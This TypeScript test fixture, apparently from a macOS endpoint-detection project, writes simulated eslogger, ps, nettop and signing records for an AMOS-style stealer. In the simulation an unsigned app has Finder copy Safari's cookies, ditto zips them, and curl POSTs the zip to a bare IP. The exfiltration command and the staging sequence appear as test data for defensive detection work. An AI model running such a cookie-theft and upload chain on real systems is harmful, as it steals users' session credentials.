/**
 * A scripted macOS host for the fake darwin tools: AMOS-style staging through Finder, uploaded over plain HTTP.
 *
 * - An unsigned app from ~/Downloads has Finder `duplicate` Safari's cookies into its staging folder
 *   (`/private/tmp/salmonela/`): Finder's clone, a read in Finder's own lineage group.
 * - The app runs Apple's ditto to zip the folder (ditto opens the copy), then Apple's curl to POST 3 MiB of it to
 *   a bare IP on port 80. ditto has exited by the time ps samples; curl is still uploading.
 *
 * Pids: every process that does a file event, and its parent, is beyond any real pid (test/e2e/fixture-pids.test.ts);
 * curl does none. Times are relative to `nowMs`.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { body, esLine } from '../../extension/collectors/eslogger/testing/es-lines.mjs';
import { appleToolDisplay, nettopSample, psRow } from './stealer-scenario.js';

export const APP = {
  pid: 4_209_101,
  path: '/Users/dana/Downloads/Installer.app/Contents/MacOS/Installer',
  cdhash: '6EA1E55C0FFEE0DDBA11AD0BE5EED5CAFEF00D43',
};
export const FINDER = { pid: 4_209_040, path: '/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder' };
export const DITTO = { pid: 4_209_103, path: '/usr/bin/ditto' };
export const CURL = { pid: 9105, path: '/usr/bin/curl' };
export const UPLOAD = { remote: '45.142.122.92', port: 80, bytesOut: 3 * 1024 * 1024, bytesIn: 400 };
export const COOKIES = '/Users/dana/Library/Cookies/Cookies.binarycookies';
/** Where Finder's copy lands, as canonicalPath spells it (eslogger reports /private/tmp/…). */
export const COPY = '/tmp/salmonela/Cookies.binarycookies';

export function writeFinderStagingScenario(dir: string, nowMs = Date.now()): { dir: string; times: { clone: number; dittoRead: number } } {
  const s = Math.floor(nowMs / 1000) * 1000; // whole seconds: ps and eslogger start times agree exactly
  const at = (secondsAgo: number) => s - secondsAgo * 1000;
  const app = { pid: APP.pid, ppid: 1, path: APP.path, platform: false, signingId: null, teamId: null, cdhash: APP.cdhash, startMs: at(120), tty: null };
  const asApp = (p: { pid: number; startMs: number }) => ({ ...app, pid: p.pid, ppid: APP.pid, startMs: p.startMs });
  const finder = { pid: FINDER.pid, ppid: 1, path: FINDER.path, platform: true, signingId: 'com.apple.finder', cdhash: 'F1D0F1D0F1D0F1D0F1D0F1D0F1D0F1D0F1D0F1D0', startMs: at(86_000) };
  const ditto = { pid: DITTO.pid, ppid: APP.pid, path: DITTO.path, platform: true, signingId: 'com.apple.ditto', cdhash: 'DEADBEEF00112233445566778899AABBCCDDEEFF', startMs: at(40) };
  const curl = { pid: CURL.pid, ppid: APP.pid, path: CURL.path, platform: true, signingId: 'com.apple.curl', cdhash: '9E8D7C6B5A4F3E2D1C0B9A8F7E6D5C4B3A2F1E0D', startMs: at(20) };
  let g = 600_000;
  type Proc = Parameters<typeof esLine>[0]['process'];
  const line = (kind: string, ms: number, process: Proc, b: object) => esLine({ kind, timeMs: ms, gseq: g++, process, body: b, version: 10 });
  const eslogger = [
    line('exec', at(120), { ...app, path: '/usr/libexec/xpcproxy', platform: true, signingId: 'com.apple.xpc.proxy' }, body.exec(app, [APP.path], '/', 10)),
    line('clone', at(60), finder, body.clone(COOKIES, '/private/tmp/salmonela', 'Cookies.binarycookies')),
    line('fork', at(40), app, body.fork(asApp(ditto), 10)),
    line('exec', at(40) + 50, asApp(ditto), body.exec(ditto, ['ditto', '-c', '-k', '--sequesterRsrc', '/tmp/salmonela/', '/tmp/salmonela.zip'], '/Users/dana', 10)),
    line('open', at(39), ditto, body.open(`/private${COPY}`)),
    line('create', at(39), ditto, body.createExisting('/private/tmp/salmonela.zip')),
    line('close', at(38), ditto, body.close('/private/tmp/salmonela.zip', true)),
    line('exit', at(37), ditto, body.exit(0)),
    line('fork', at(20), app, body.fork(asApp(curl), 10)),
    line('exec', at(20) + 50, asApp(curl), body.exec(curl, ['curl', '-X', 'POST', '-F', 'lil-arch=@/tmp/salmonela.zip', `http://${UPLOAD.remote}/joinsystem`], '/Users/dana', 10)),
  ];

  mkdirSync(path.join(dir, 'nettop'), { recursive: true });
  writeFileSync(path.join(dir, 'nettop', '001.txt'), nettopSample([{ name: 'curl', pid: CURL.pid, localPort: 51001, flow: UPLOAD }]));
  writeFileSync(
    path.join(dir, 'ps.txt'),
    [psRow(1, 0, 0, at(86_400), '/sbin/launchd'), psRow(FINDER.pid, 1, 501, finder.startMs, FINDER.path), psRow(APP.pid, 1, 501, app.startMs, APP.path), psRow(CURL.pid, APP.pid, 501, curl.startMs, CURL.path), ''].join('\n'),
  );
  writeFileSync(
    path.join(dir, 'signing.json'),
    JSON.stringify({
      // No `display`: the fake answers "code object is not signed at all", as codesign does.
      [APP.path]: {},
      '/Users/dana/Downloads/Installer.app': { spctl: { exit: 3, stderr: '/Users/dana/Downloads/Installer.app: rejected\nsource=no usable signature\n' } },
      [CURL.path]: { display: { stderr: appleToolDisplay(CURL.path, 'com.apple.curl') } },
      [DITTO.path]: { display: { stderr: appleToolDisplay(DITTO.path, 'com.apple.ditto') } },
      [FINDER.path]: { display: { stderr: appleToolDisplay(FINDER.path, 'com.apple.finder') } },
      '/sbin/launchd': { display: { stderr: appleToolDisplay('/sbin/launchd', 'com.apple.xpc.launchd') } },
    }),
  );
  writeFileSync(path.join(dir, 'eslogger.jsonl'), `${eslogger.join('\n')}\n`);
  return { dir, times: { clone: Math.floor(at(60) / 1000), dittoRead: Math.floor(at(39) / 1000) } };
}
